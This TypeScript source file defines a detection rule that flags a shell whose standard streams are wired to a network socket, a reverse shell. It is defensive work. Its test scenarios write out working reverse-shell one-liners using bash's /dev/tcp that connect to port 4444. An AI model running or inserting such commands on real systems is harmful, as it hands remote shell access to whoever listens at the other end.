import type { Connection } from '../../model/connection.js';
import type { DescriptorCopy, DetectionCase } from '../../model/detection-case.js';
import type { Evidence, Level } from '../../model/finding.js';
import type { Process } from '../../model/process.js';
import type { TimeUs } from '../../model/time.js';
import { contactsOf, isOpenAt } from '../contact.js';
import type { Draft } from '../draft.js';
import { ancestorsInside, programName, type ShellStart, seconds, shellStarts } from '../lineage.js';
import { isLoginServer, isRemoteAgent } from '../programs.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { isCommandedByInput } from '../shell.js';
import { command, connectionEvidence, destination, imageEvidence, related, span } from '../wording.js';

/** The moment from which on a process's standard streams lead somewhere else. */
interface Redirection {
  readonly process: Process;
  readonly atUs: TimeUs;
  /** The source tells that it is a socket; otherwise one descriptor serves both ways, as a socket does. */
  readonly isTold: boolean;
  readonly evidence: readonly Evidence[];
}

/** Where the streams lead: the connection, and the process that has it. */
interface Line {
  readonly connection: Connection;
  readonly owner: Process;
}

/** The moment of the exec and that of the copies come from different probes. */
const CLOCK_SLACK_US = 1000;

export const reverseShellStandardStreams = defineRule({
  id: 'reverse-shell-standard-streams',
  title: 'Shell reads from and writes to a network connection',
  description:
    'A connection is copied onto the standard input and output of a process, and then that process is a shell: whoever is at the other end types. ' +
    'Some sources say that the descriptor is a socket. Where only numbers are told, one descriptor that serves as both input and output, in a ' +
    'process that connected moments before or whose ancestor did, is taken for it.',
  level: 'critical',
  stage: 'shell',
  attack: ['T1059.004', 'T1095'],
  needs: ['standard streams'],
  options: {
    windowSeconds: { value: 30, description: 'Longest time from the connection to the copy, where only numbers are told.' },
    execSeconds: { value: 5, description: 'Longest time from the copy to the shell. Observed: under 0.1 s.' },
    generations: {
      value: 4,
      description: 'How far above the shell the connecting process may stand: a shell redirects in a clone of itself.',
    },
  },
  falsePositives: ['Servers of remote sessions under an unknown name that hand their socket to a shell: inetd and its like.'],
  *run({ view, option }) {
    for (const redirection of redirections(view)) {
      const shell = shellAfter(redirection, seconds(option('execSeconds')));
      if (shell === undefined) continue;
      const above = [shell.process, ...ancestorsInside(view, shell.process, option('generations'))];
      if (above.some((process) => isLoginServer(programName(process)))) continue;
      const line = lineOf(view, above, redirection, seconds(option('windowSeconds')));
      if (line === undefined && !redirection.isTold) continue;
      yield draft(shell, redirection, line, levelOf(redirection, above));
    }
  },
  hits: [
    scenario(
      'the source tells that standard input is a socket',
      `
      container web
      0       node server.js
      1200      /opt/tool
      1200.1      > tcp 203.0.113.9:4444
      1200.2      dup 3 0 socket
      1200.2      dup 3 1 socket
      1200.3      => /bin/sh -c id
    `,
    ),
    scenario(
      'a clone of a shell puts one descriptor on input and output',
      `
      container web
      0       node server.js
      1200      bash -c "exec 196<>/dev/tcp/host/4444; sh <&196 >&196 2>&196"
      1200.1      > tcp 203.0.113.9:4444
      1200.2      fork
      1200.21       dup 196 0
      1200.21       dup 196 1
      1200.22       => sh
    `,
    ),
    scenario(
      'output first, then input from output',
      `
      container web
      0       node server.js
      1200      bash -c "sh -i >& /dev/tcp/10.0.0.9/4444 0>&1"
      1200.1      fork
      1200.15       > tcp 10.0.0.9:4444
      1200.2        dup 3 1
      1200.2        dup 1 2
      1200.2        dup 1 0
      1200.3        => sh -i
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'output goes to a file and input comes from a pipe',
      `
      container web
      0       node server.js
      1199.9    > tcp 10.0.0.20:5432
      1200      fork
      1200.1      dup 5 0
      1200.1      dup 6 1
      1200.1      dup 1 2
      1200.2      => sh job.sh
    `,
    ),
    scenario(
      'a daemon puts all streams on nothing, long after it connected',
      `
      container web
      0       bash start.sh
      1         > tcp 10.0.0.20:5432
      100       fork
      100.1       dup 3 0
      100.1       dup 3 1
      100.1       dup 3 2
      100.2       => sh
    `,
    ),
    scenario(
      'a shell speaks over a socket that it opened for a health check',
      `
      container pg
      0       postgres
      1200    bash -c "exec 3<>/dev/tcp/report/7000; printf 'GET / HTTP/1.0' >&3; read line <&3"
      1200.1    > tcp 10.0.0.20:7000
      1200.2    dup 3 1 socket
      1200.3    dup 3 0 socket
    `,
    ),
    scenario(
      'a login server hands its socket to a shell',
      `
      container gateway
      0       /usr/sbin/sshd -D
      60        /usr/sbin/sshd -R
      60.1        < tcp 10.0.0.8:51000 on 22
      60.2        fork
      60.3          dup 5 0 socket
      60.3          dup 5 1 socket
      60.4          => bash -c ls
    `,
    ),
  ],
});

/** The first redirection of each process that puts a socket, or one descriptor, on both its input and its output. */
function* redirections(view: DetectionCase): Generator<Redirection> {
  let copies: DescriptorCopy[] = [];
  for (const copy of view.descriptorCopies()) {
    if (copies[0] !== undefined && copies[0].processId !== copy.processId) {
      yield* redirectionOf(view, copies);
      copies = [];
    }
    copies.push(copy);
  }
  yield* redirectionOf(view, copies);
}

function redirectionOf(view: DetectionCase, copies: readonly DescriptorCopy[]): readonly Redirection[] {
  const [first] = copies;
  const process = first === undefined ? undefined : view.process(first.processId);
  if (process === undefined) return [];
  const origins = new Map<number, number>();
  const sockets = new Set<number>();
  for (const [place, { from, to, atUs, isSocket }] of copies.entries()) {
    if (from !== undefined) origins.set(to, origins.get(from) ?? from);
    if (isSocket === true) sockets.add(to);
    const isTold = sockets.has(0) && sockets.has(1);
    const isBothWays = origins.has(0) && origins.get(0) === origins.get(1);
    if (atUs === undefined || !(isTold || isBothWays)) continue;
    const evidence = copies.slice(0, place + 1).flatMap((copy) => copyEvidence(process, copy));
    return [{ process, atUs, isTold, evidence }];
  }
  return [];
}

function copyEvidence(process: Process, { from, to, isSocket, atUs, evidence }: DescriptorCopy): readonly Evidence[] {
  const what = isSocket === true ? 'a socket' : `descriptor ${from}`;
  return [{ ...evidence, ...(atUs === undefined ? {} : { timeUs: atUs }), summary: `pid ${process.pid} put ${what} on descriptor ${to}` }];
}

/**
 * The shell that the process became then, or already was. One that was given its commands may speak over a socket by itself, redirection by
 * redirection, so it counts only when it was started on the socket and the source tells that it is one.
 */
function shellAfter({ process, atUs, isTold }: Redirection, within: number): ShellStart | undefined {
  const isAfter = (start: ShellStart): boolean => start.atUs >= atUs - CLOCK_SLACK_US && start.atUs - atUs <= within;
  const starts = shellStarts(process).filter(
    (start) => isCommandedByInput(start.kind) || (isTold && start.kind === 'command' && isAfter(start)),
  );
  return starts.find(isAfter) ?? (isTold ? starts.findLast((start) => start.atUs < atUs) : undefined);
}

function lineOf(view: DetectionCase, above: readonly Process[], { atUs, isTold }: Redirection, window: number): Line | undefined {
  for (const owner of above) {
    const contact = contactsOf(view, owner).findLast(
      (one) => one.atUs <= atUs && (isTold || atUs - one.atUs <= window) && isOpenAt(one.connection, atUs),
    );
    if (contact !== undefined) return { connection: contact.connection, owner };
    const accepted =
      isTold && owner.connectionCount > 0 ? view.connectionsOf(owner.id).findLast((one) => isCallerAt(one, atUs)) : undefined;
    if (accepted !== undefined) return { connection: accepted, owner };
  }
  return undefined;
}

function isCallerAt(connection: Connection, atUs: TimeUs): boolean {
  const { direction, openedAtUs } = connection;
  return direction === 'inbound' && openedAtUs !== undefined && openedAtUs <= atUs && isOpenAt(connection, atUs);
}

function levelOf({ isTold }: Redirection, above: readonly Process[]): Level {
  if (above.some((process) => isRemoteAgent(programName(process)))) return 'medium';
  return isTold ? 'critical' : 'high';
}

function draft(shell: ShellStart, { atUs, isTold, evidence }: Redirection, line: Line | undefined, level: Level): Draft {
  const { process, image } = shell;
  const where = line === undefined ? 'a network connection' : destination(line.connection);
  const copied = isTold ? `the socket to ${where}` : `one descriptor, right after the connection to ${where},`;
  return {
    level,
    title: `${command(image)} reads from and writes to ${where}`,
    why: `pid ${process.pid} put ${copied} on its standard streams and ran ${command(image)}.`,
    process,
    ...span(line?.connection.openedAtUs, atUs, shell.atUs),
    connections: line === undefined ? [] : [line.connection],
    related: [related(process, 'shell'), ...(line === undefined || line.owner.id === process.id ? [] : [related(line.owner, 'client')])],
    evidence: [
      ...(line === undefined ? [] : connectionEvidence(line.connection, `pid ${line.owner.pid} and ${where}`)),
      ...evidence,
      ...imageEvidence(process, image),
    ],
    members: [process.id, ...(line === undefined ? [] : [line.owner.id])],
  };
}
